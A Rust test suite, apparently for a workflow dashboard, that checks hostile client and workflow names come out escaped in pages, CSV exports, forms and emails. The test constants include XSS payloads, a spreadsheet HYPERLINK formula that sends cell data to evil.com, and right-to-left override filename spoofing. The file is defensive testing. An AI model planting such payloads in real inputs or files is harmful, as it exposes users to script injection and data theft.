//! Names that want to be something else than text: markup, marks that turn around what stands beside them, formulas, and far too much of it.

use std::{sync::Arc, time::Duration};

use flowmastery_core::{clock::Timestamp, mail::SmtpMailer};
use flowmastery_tests::{
    backend::Backend,
    smtp::SmtpServer,
    visitor::Visitor,
    world::{ADMIN, NOW, World},
};
use n8n_simulator::{FakeN8n, Run};

use super::{assert_page, world};

const SCRIPT: &str = "<script>alert(1)</script><img src=x onerror=alert(2)>\"' onmouseover='alert(3)";
const FORMULA: &str = "=HYPERLINK(\"https://evil.com?\"&A1,\"click\")";
const TURNED: &str = "\u{202e}gnp.exe\u{2066}\u{200f} 😀👩‍👩‍👧";
const TEMPLATE: &str = "{{ chrome.base }}{% include \"base.html\" %}&amp;&#60;";

/// As HTML that templates escape.
fn escaped(text: &str) -> String {
    let mut escaped = String::new();
    for character in text.chars() {
        match character {
            '&' | '<' | '>' | '"' | '\'' => escaped.push_str(&format!("&#{};", u32::from(character))),
            other => escaped.push(other),
        }
    }
    escaped
}

/// A client with a hostile name, whose workflows have others and failed once each.
async fn hostile(client: &str, workflows: &[&str]) -> (World, i64) {
    let (world, token) = world().await;
    let n8n = FakeN8n::start().await;
    for name in workflows {
        let id = n8n.state().add_workflow("Any");
        n8n.state().rename_workflow(&id, name);
        let hour_ago = Timestamp::parse(NOW).unwrap().minus(Duration::from_secs(3600));
        n8n.state().add(Run::ended(&id, "error", hour_ago, 1000));
    }
    let id = world.client(&token, client).await;
    assert_eq!(world.configure(&token, id, &n8n.url(), &n8n.key()).await.status, 200);
    world.collect(id).await;
    (world, id)
}

#[tokio::test]
async fn they_are_text_on_every_page() {
    let long = "x".repeat(10_000);
    let names = [SCRIPT, FORMULA, TURNED, TEMPLATE, &long];
    let (world, id) = hostile(SCRIPT, &names).await;
    let token = world.sign_in(ADMIN).await;
    world.client_user(&token, "carl@acme.com", id).await;
    let mut admin = Visitor::signed_in(&world, ADMIN).await;
    for path in ["", "/clients/{id}", "/clients/{id}/settings", "/people", "/audit"] {
        let page = admin.get(&format!("/dashboard{}", path.replace("{id}", &id.to_string()))).await;
        assert_page(&page, 200);
        let html = page.text();
        assert!(
            !html.contains("<script>") && !html.contains("<img") && !html.contains("onerror=alert(2)>"),
            "{html}"
        );
        assert!(html.contains(&escaped(SCRIPT)) || path == "/audit", "{path}: {html}");
    }
    let page = Visitor::signed_in(&world, "carl@acme.com").await.get("/dashboard").await;
    let html = page.text();
    for name in [SCRIPT, FORMULA, TURNED, TEMPLATE] {
        // Once in the table, once among the failures; each so that it turns nothing around but itself.
        let isolated = escaped(name);
        assert_eq!(html.matches(&isolated).count() - usize::from(name == SCRIPT) * 2, 2, "{name}: {html}");
        for (at, _) in html.match_indices(&isolated) {
            let before = html.get(..at).unwrap();
            let is_isolated = before.rfind("<bdi>") > before.rfind("</bdi>") || before.ends_with("<title>");
            assert!(is_isolated, "{name}");
        }
    }
    assert!(html.contains("xxxx"), "{html}");
}

#[tokio::test]
async fn they_are_no_formulas_in_sheets() {
    let long = format!("+{}", "9".repeat(10_000));
    let names = [SCRIPT, FORMULA, TURNED, TEMPLATE, &long, "@SUM(A1)", "-1+1", "a\r\n=1+1", ",\"\n"];
    let (world, id) = hostile("=1+1", &names).await;
    let mut admin = Visitor::signed_in(&world, ADMIN).await;
    for sheet in ["workflows", "executions"] {
        let answer = admin.get(&format!("/dashboard/clients/{id}/{sheet}.csv")).await;
        assert_eq!(answer.status, 200);
        assert_eq!(answer.header("content-type"), Some("text/csv; charset=utf-8"));
        let name = format!("attachment; filename=\"{sheet}.csv\"");
        assert_eq!(answer.header("content-disposition"), Some(name.as_str()));
        let table = read(answer.text());
        let column = table[0].iter().position(|cell| cell == "workflow_name").unwrap();
        assert_eq!(table.len(), 1 + names.len(), "{table:?}");
        for row in &table {
            assert_eq!(row.len(), table[0].len(), "{row:?}");
            for cell in row {
                let is_formula =
                    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && cell.parse::<f64>().is_err();
                assert!(!is_formula, "{cell:?}");
            }
        }
        for name in [SCRIPT, TURNED, TEMPLATE] {
            assert!(table.iter().any(|row| row[column] == name), "{name}: {table:?}");
        }
        assert!(table.iter().any(|row| row[column] == format!("'{FORMULA}")), "{table:?}");
    }
}

/// Reads a sheet as spreadsheets do (RFC 4180).
fn read(text: &str) -> Vec<Vec<String>> {
    let (mut table, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '"' if quoted && characters.peek() == Some(&'"') => {
                characters.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                table.push(std::mem::take(&mut row));
            }
            other => cell.push(other),
        }
    }
    assert!(row.is_empty() && cell.is_empty() && !quoted, "it ends with its last line");
    table
}

#[tokio::test]
async fn a_name_that_is_entered_wrongly_comes_back_as_text() {
    let (world, _) = world().await;
    let mut admin = Visitor::signed_in(&world, ADMIN).await;
    let long = format!("{SCRIPT}{}", "x".repeat(300));
    let page = admin.submit("/dashboard/clients/new", &[("name", &long)]).await;
    assert_page(&page, 422);
    assert!(page.text().contains(&format!("value=\"{}\"", escaped(&long))), "{}", page.text());
    let query: String = url::form_urlencoded::byte_serialize(SCRIPT.as_bytes()).collect();
    for name in ["search", "tz", "sort", "period", "done", "unknown"] {
        let page = admin.get(&format!("/dashboard?{name}={query}")).await;
        assert_page(&page, page.status.as_u16());
        assert!(!page.text().contains("<script>alert"), "{name}");
    }
}

#[tokio::test]
async fn an_invitation_to_a_client_with_such_a_name_is_text_in_the_mail_and_on_its_page() {
    let mut server = SmtpServer::start(&[]).await;
    let mailer = Arc::new(SmtpMailer::new(&server.config()).unwrap());
    let world = World::with(Backend::Sqlite.store().await, |builder| builder.mailer(mailer)).await;
    let token = world.sign_in(ADMIN).await;
    let client = world.client(&token, SCRIPT).await.to_string();
    let mut admin = Visitor::signed_in(&world, ADMIN).await;
    let invited = [("email", "carl@acme.com"), ("client_id", &client)];
    let answer = admin.submit("/dashboard/people/invite", &invited).await;
    assert_eq!(answer.header("location"), Some("/dashboard/people?done=invited"));
    world.app.outbox().send_due().await.unwrap();
    let mail = server.mail().await;
    let (plain, html) = (mail["plain"].as_str().unwrap(), mail["html"].as_str().unwrap());
    assert!(!html.contains("<script>") && !html.contains("<img"), "{html}");
    let (_, secret) = plain.split_once("/accept-invitation?token=").unwrap();
    let secret = secret.split_whitespace().next().unwrap();
    let page = Visitor::new(&world).get(&format!("/dashboard/accept-invitation?token={secret}")).await;
    assert_page(&page, 200);
    assert!(page.text().contains(&escaped(SCRIPT)), "{}", page.text());
}
